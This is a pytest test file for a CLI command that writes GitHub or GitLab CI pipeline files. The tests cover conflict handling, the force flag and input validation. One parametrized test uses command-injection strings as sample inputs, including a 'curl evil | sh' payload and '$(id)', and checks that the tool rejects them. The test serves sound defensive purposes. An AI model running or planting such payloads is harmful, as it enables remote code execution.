"""``shipyard init --ci``: the workspace plus a pipeline file, and nothing at all when either is refused."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from shipyard.cli import main

GITHUB_FILE = Path(".github/workflows/shipyard.yml")
GITLAB_FILE = Path(".gitlab-ci.yml")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SHIPYARD_HOME", str(tmp_path / "ws"))
    monkeypatch.setenv("COLUMNS", "300")  # one line per message, so paths are not wrapped
    return tmp_path / "ws"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    repository = tmp_path / "repo"
    repository.mkdir()
    (repository / "spec.toml").write_text('model = "fraud"\n', encoding="utf-8")
    return repository


def test_init_ci_github_creates_the_workspace_and_the_workflow(
    home: Path, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", "--ci", "github", "--project-dir", str(project)]) == 0
    assert (home / "shipyard.toml").is_file()
    workflow = yaml.safe_load((project / GITHUB_FILE).read_text(encoding="utf-8"))
    (job,) = workflow["jobs"].values()
    assert job["env"]["SPEC"] == "spec.toml"
    assert job["env"]["ALIAS"] == "production"
    out = capsys.readouterr().out
    assert str(project / GITHUB_FILE) in out
    assert "does not exist" not in out  # the spec is there


def test_init_ci_gitlab_uses_the_given_spec_and_alias(
    home: Path, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["init", "--ci", "gitlab", "--project-dir", str(project), "--spec", "ml/fraud.toml"]
    assert main([*argv, "--alias", "staging"]) == 0
    variables = yaml.safe_load((project / GITLAB_FILE).read_text(encoding="utf-8"))["variables"]
    assert (variables["SPEC"], variables["ALIAS"]) == ("ml/fraud.toml", "staging")
    out = capsys.readouterr().out
    assert str(project / GITLAB_FILE) in out
    assert "ml/fraud.toml does not exist yet" in out


def test_init_ci_writes_into_the_current_directory_by_default(
    home: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    assert main(["init", "--ci", "gitlab"]) == 0
    assert (project / GITLAB_FILE).is_file()


def test_existing_ci_file_is_a_conflict_and_nothing_is_created(
    home: Path, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    existing = project / GITHUB_FILE
    existing.parent.mkdir(parents=True)
    existing.write_text("# ours\n", encoding="utf-8")
    assert main(["init", "--ci", "github", "--project-dir", str(project)]) == 4
    assert "--force-ci" in capsys.readouterr().err
    assert existing.read_text(encoding="utf-8") == "# ours\n"
    assert not home.exists()  # refused before the workspace was created


def test_force_ci_replaces_the_existing_file(home: Path, project: Path) -> None:
    assert main(["init", "--ci", "github", "--project-dir", str(project)]) == 0
    argv = ["init", "--exist-ok", "--ci", "github", "--project-dir", str(project), "--alias", "staging"]
    assert main(argv) == 4
    assert main([*argv, "--force-ci"]) == 0
    workflow = yaml.safe_load((project / GITHUB_FILE).read_text(encoding="utf-8"))
    (job,) = workflow["jobs"].values()
    assert job["env"]["ALIAS"] == "staging"


@pytest.mark.parametrize(
    "option",
    [
        ["--spec", 'spec.toml"; curl evil | sh; "'],
        ["--spec", "$(id)"],
        ["--alias", "prod\nx"],
        ["--alias", "it's"],
    ],
)
def test_injection_attempts_exit_2_and_write_nothing(home: Path, project: Path, option: list[str]) -> None:
    assert main(["init", "--ci", "github", "--project-dir", str(project), *option]) == 2
    assert not (project / ".github").exists()
    assert not home.exists()


def test_ci_options_without_ci_are_refused(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", "--spec", "spec.toml"]) == 2
    assert "--ci" in capsys.readouterr().err
    assert not home.exists()


def test_unknown_ci_system_is_a_usage_error(home: Path) -> None:
    assert main(["init", "--ci", "jenkins"]) == 2
    assert not home.exists()
